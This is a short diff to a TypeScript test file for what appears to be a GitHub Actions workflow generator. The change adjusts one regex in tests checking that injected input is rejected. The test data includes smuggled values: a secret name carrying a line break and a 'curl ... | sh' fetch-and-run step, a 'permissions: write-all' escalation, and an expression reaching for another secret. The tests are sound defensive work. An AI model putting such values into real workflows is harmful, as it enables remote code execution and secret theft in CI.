@@ -23,7 +23,7 @@ describe('security: the generated workflow cannot be injected', () => {
 
   const cases: [string, Record<string, unknown>, RegExp][] = [
     ['a secret name with a line break', { secretName: 'X }}\n        run: curl https://example.invalid | sh #' }, /is not a GitHub secret name/],
-    ['an environment with a line break', { secretName: 'FLY_API_TOKEN', environment: 'prod\n    permissions: write-all' }, /environment name "prod\\u\{000A\}    permissions: write-all" cannot go into a workflow/],
+    ['an environment with a line break', { secretName: 'FLY_API_TOKEN', environment: 'prod\n    permissions: write-all' }, /environment name "prod\\u\{000A\} {4}permissions: write-all" cannot go into a workflow/],
     ['an environment with a GitHub expression', { secretName: 'FLY_API_TOKEN', environment: '${{ secrets.OTHER }}' }, /environment name .* cannot go into a workflow/],
   ];
   for (const [what, extra, says] of cases) {
